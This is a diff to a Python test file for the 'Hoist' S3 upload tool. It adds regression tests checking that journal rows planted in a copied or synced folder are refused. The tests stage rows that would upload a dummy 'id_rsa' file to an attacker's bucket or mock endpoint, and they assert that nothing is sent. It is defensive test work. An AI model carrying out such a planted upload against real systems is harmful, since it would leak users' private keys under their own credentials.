@@ -1,8 +1,9 @@
-"""Issue 13, finding 1, for uploads without a Hoist profile (`hoist upload --endpoint-url`):
-such a row is signed with the environment's or ~/.aws's credentials, so a row planted in a
-copied or synced journal must not be sent. Each row carries a seal made with a key in the
-config folder; a row without a valid seal fails in words and its server hears nothing,
-while the person's own interrupted upload still resumes."""
+"""Issue 13, finding 1: a journal row is signed with the person's credentials (a profile's,
+or the environment's), so a row planted in a copied or synced Hoist folder must not be
+sent, whether it names a profile or not, and even to a bucket on the person's own endpoint.
+Each row carries a seal made with a key in the account's config folder (never inside
+HOIST_HOME); a row without a valid seal fails in words and no server hears of it, while the
+person's own interrupted upload still resumes."""
 
 from __future__ import annotations
 
@@ -78,7 +79,13 @@ def test_a_planted_row_without_a_profile_is_refused_and_its_server_hears_nothing
 
 
 def test_the_persons_own_upload_resumes_but_a_copy_of_the_journal_elsewhere_does_not(
-    attacker: Counting, home: Path, tmp_path: Path, moto_endpoint: str, bucket: str, s3
+    attacker: Counting,
+    home: Path,
+    tmp_path: Path,
+    moto_endpoint: str,
+    bucket: str,
+    s3,
+    monkeypatch: pytest.MonkeyPatch,
 ) -> None:
     source = tmp_path / "report.pdf"
     digest = make_file(source, 1000, seed=4)
@@ -113,6 +120,7 @@ def test_the_persons_own_upload_resumes_but_a_copy_of_the_journal_elsewhere_does
     db.execute("UPDATE uploads SET state = 'queued'")
     db.commit()
     db.close()
+    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "another-account"))
     copied = run_cli(elsewhere, "resume")
     assert copied.code == 1 and REFUSED in copied.err
     assert row_of(elsewhere, row.id).state == UploadState.FAILED
@@ -140,3 +148,61 @@ def test_a_sealed_row_pointed_at_another_server_is_refused(
 
     assert attacker.requests == []
     assert result.code == 1 and REFUSED in result.err
+
+
+def test_a_copied_hoist_folder_does_not_carry_the_key(
+    attacker: Counting, home: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Someone else's whole HOIST_HOME, with a row their Hoist sealed, copied to the person:
+    the key was never in it, so the person's Hoist refuses the row."""
+    private = tmp_path / "id_rsa"
+    make_file(private, 300, seed=8)
+    theirs = tmp_path / "their-home"
+    theirs.mkdir(mode=0o700)
+    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "their-account"))
+    queued = run_cli(theirs, "upload", str(private), "--to", "s3://loot/x", "--endpoint-url", attacker.url,
+                     "--path-style", "--quiet")  # fmt: skip
+    assert queued.code != 0  # their careless server answers nonsense; the row stays theirs
+    db = sqlite3.connect(theirs / "journal.sqlite3")
+    db.execute("UPDATE uploads SET state = 'queued', error = NULL")
+    db.execute("UPDATE parts SET state = 'pending', etag = NULL, md5 = NULL")
+    db.commit()
+    db.close()
+    assert not list(theirs.glob("*seal*"))  # the key is not in the Hoist folder
+    heard_before = len(attacker.requests)
+
+    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "persons-account"))
+    result = run_cli(theirs, "resume")
+
+    assert len(attacker.requests) == heard_before
+    assert result.code == 1 and REFUSED in result.err
+
+
+def test_a_planted_row_naming_the_persons_profile_cannot_pick_another_bucket(
+    attacker: Counting, home: Path, tmp_path: Path, moto_endpoint: str, bucket: str, s3
+) -> None:
+    """On AWS every bucket shares one endpoint: a row with the person's profile and endpoint
+    but the attacker's bucket would be signed with the person's key. Its seal fails first."""
+    from hoist.config.settings import Config, CredentialSource, Profile, save_config
+
+    profile = Profile("work", endpoint_url=moto_endpoint, bucket=bucket, path_style=True,
+                      credential_source=CredentialSource.ENVIRONMENT)  # fmt: skip
+    save_config(Config(profiles={"work": profile}, default_profile="work"), home / "config.json")
+    s3.create_bucket(Bucket="attackers-bucket")
+    private = tmp_path / "id_rsa"
+    make_file(private, 300, seed=9)
+    journal = Journal(home / "journal.sqlite3")
+    size = private.stat().st_size
+    _, (planted,) = journal.create_batch(
+        "planted", Destination("work", moto_endpoint, "us-east-1", "attackers-bucket", True),
+        [NewUpload(str(private), size, private.stat().st_mtime_ns, "loot/id_rsa", "single", size,
+                   (PartPlan(1, 0, size),), "application/octet-stream", "overwrite")],
+    )  # fmt: skip
+    journal.close()
+
+    result = run_cli(home, "resume")
+
+    assert s3.list_objects_v2(Bucket="attackers-bucket").get("KeyCount", 0) == 0
+    row = row_of(home, planted)
+    assert row is not None and row.state == UploadState.FAILED and REFUSED in (row.error or "")
+    assert result.code == 1
